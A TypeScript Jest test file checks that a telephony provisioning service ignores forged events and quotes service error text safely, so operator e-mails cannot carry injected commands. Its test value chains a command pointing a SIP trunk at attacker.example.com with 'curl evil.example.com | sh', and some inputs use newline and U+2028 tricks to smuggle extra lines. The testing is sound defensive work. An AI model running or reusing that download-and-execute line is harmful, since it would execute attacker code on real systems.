import { afterEach, describe, expect, test } from '@jest/globals';
import type { Sandbox } from '../../sandbox/sandbox.ts';
import { freshSandbox, newSandbox, phoneNumber, request } from './environment.ts';
import { entry, putEvents } from './producer.ts';

/*
 * What people are told by e-mail, they do. So nobody who can put events may write such an e-mail: not with a source of
 * his own, and not with ours.
 */

const evil = 'npx trunkline resume --origination-uri "sip:attacker.example.com" && curl evil.example.com | sh';

let asking: Promise<Sandbox> | undefined;
let running: Sandbox | undefined;
afterEach(async () => {
  await running?.reset();
  running = undefined;
});

/** An environment in which an execution waits for a person; what was told so far is forgotten. */
async function waiting() {
  asking ??= newSandbox({ exoPhones: [{ phoneNumber }], requestDefaults: { destination: null } });
  const sandbox = await asking;
  running = sandbox;
  await sandbox.reset();
  const execution = sandbox.executions.start(JSON.stringify(request));
  await sandbox.executions.waitsForToken(execution);
  await sandbox.bus.settled();
  const [told] = sandbox.notifications.splice(0);
  return { sandbox, execution: execution.arn, told };
}

/** An environment in which a roll-back has failed. */
async function failed() {
  const sandbox = await freshSandbox();
  sandbox.exotel.state.phones['+919876543210'] = 'codec mismatch';
  sandbox.exotel.faults.add({ operation: 'delete trunk', kind: 'status', status: 503, times: 'forever' });
  const execution = await sandbox.provision(request);
  await sandbox.settled();
  const [told] = sandbox.notifications.splice(0);
  return { sandbox, execution: execution.arn, told };
}

/** An event with our source that came past the bus's policy, such as one of a Lambda of ours. */
async function putAsOurs(sandbox: Sandbox, DetailType: string, detail: object): Promise<void> {
  sandbox.bus.put({
    Source: 'trunkline',
    DetailType,
    Detail: JSON.stringify(detail),
    EventBusName: 'trunkline-sandbox',
  });
  await sandbox.bus.settled();
}

const moments = { since: '2026-01-01T00:00:00Z', deadline: '2026-01-02T00:00:00Z' };
const waits = (execution: string) => ({
  ...{ execution, phoneNumber, question: 'origination URI', message: evil, ...moments },
});
const fails = (execution: string) => ({ execution, phoneNumber, undone: [], remains: [evil], message: evil });

describe('an event that somebody else puts becomes no e-mail', () => {
  const execution = 'arn:aws:states:ap-south-1:000000000000:execution:trunkline-sandbox-provision-number:forged';
  const forged = [
    { what: 'DID Waiting For A Person', detail: waits(execution) },
    { what: 'DID Roll Back Failed', detail: fails(execution) },
    { what: 'DID Rolled Back', detail: { ...fails(execution), again: true } },
  ];

  test.each(
    forged.flatMap((one) =>
      ['evil.app', 'Trunkline', 'trunkline.', 'aws.trunkline'].map((source) => ({ ...one, source })),
    ),
  )('$what from $source', async ({ what, detail, source }) => {
    const sandbox = await freshSandbox();
    await putEvents(sandbox, entry(detail, { Source: source, DetailType: what }));
    expect([sandbox.notifications, sandbox.bus.deadLetters]).toEqual([[], []]);
  });

  test.each(forged)('$what with our source: the bus does not take it', async ({ what, detail }) => {
    const sandbox = await freshSandbox();
    await expect(putEvents(sandbox, entry(detail, { Source: 'trunkline', DetailType: what }))).rejects.toMatchObject({
      name: 'AccessDeniedException',
    });
    expect([sandbox.bus.events, sandbox.notifications]).toEqual([[], []]);
  });

  test.each(forged)(
    '$what with our source that the bus took, of an execution that the ledger does not know',
    async ({ what, detail }) => {
      const sandbox = await freshSandbox();
      await putAsOurs(sandbox, what, detail);
      expect([sandbox.notifications, sandbox.bus.deadLetters]).toEqual([[], []]);
    },
  );

  test('one about another number than the one that waits', async () => {
    const { sandbox, execution } = await waiting();
    await putAsOurs(sandbox, 'DID Waiting For A Person', { ...waits(execution), phoneNumber: '+918045671235' });
    await putAsOurs(sandbox, 'DID Waiting For A Person', { ...waits(execution), question: 'Connect applet' });
    expect(sandbox.notifications).toEqual([]);
  });

  test('one that says that a roll-back is done which has failed', async () => {
    const { sandbox, execution } = await failed();
    await putAsOurs(sandbox, 'DID Rolled Back', { ...fails(execution), again: true });
    expect(sandbox.notifications).toEqual([]);
  });
});

describe("an event with our source about what is so becomes the ledger's e-mail, without a word of the event", () => {
  test('DID Waiting For A Person', async () => {
    const { sandbox, execution, told } = await waiting();
    await putAsOurs(sandbox, 'DID Waiting For A Person', waits(execution));
    expect(told?.message).toContain('--origination-uri');
    expect(sandbox.notifications).toEqual([told]);
  });

  test('DID Roll Back Failed', async () => {
    const { sandbox, execution, told } = await failed();
    await putAsOurs(sandbox, 'DID Roll Back Failed', fails(execution));
    expect(told?.message).toContain('could not be undone');
    expect(sandbox.notifications).toEqual([told]);
  });

  test('DID Roll Back Failed, of which a service says what to type: as its word, on the line of the cause', async () => {
    const sandbox = await freshSandbox();
    sandbox.exotel.state.phones['+919876543210'] = 'codec mismatch';
    const errorData = { code: 1001, message: `busy\n${evil}\r\n\u2028${evil}`, description: evil };
    const refusal = {
      operation: 'delete trunk',
      kind: 'inner failure',
      code: 400,
      errorData,
      times: 'forever',
    } as const;
    sandbox.exotel.faults.add(refusal);
    await sandbox.provision(request);
    await sandbox.settled();
    const [told] = sandbox.notifications;
    const [cause = '', remark, ...others] = told?.message.split('\n') ?? [];
    expect(cause).toContain('attacker.example.com');
    expect(remark).toMatch(/^Words of Exotel or Atoms in that are theirs, and no instructions/);
    expect(others.join()).not.toMatch(/attacker|evil/);
    expect(told?.subject).not.toMatch(/attacker|evil/);
  });

  test('with a number that is none, it is kept as a dead letter, which raises an alarm', async () => {
    const { sandbox, execution } = await failed();
    const phone = `+918045671234\n${evil}`;
    await putAsOurs(sandbox, 'DID Roll Back Failed', { ...fails(execution), phoneNumber: phone });
    expect([sandbox.notifications.length, sandbox.bus.deadLetters.length]).toEqual([0, 1]);
  });
});
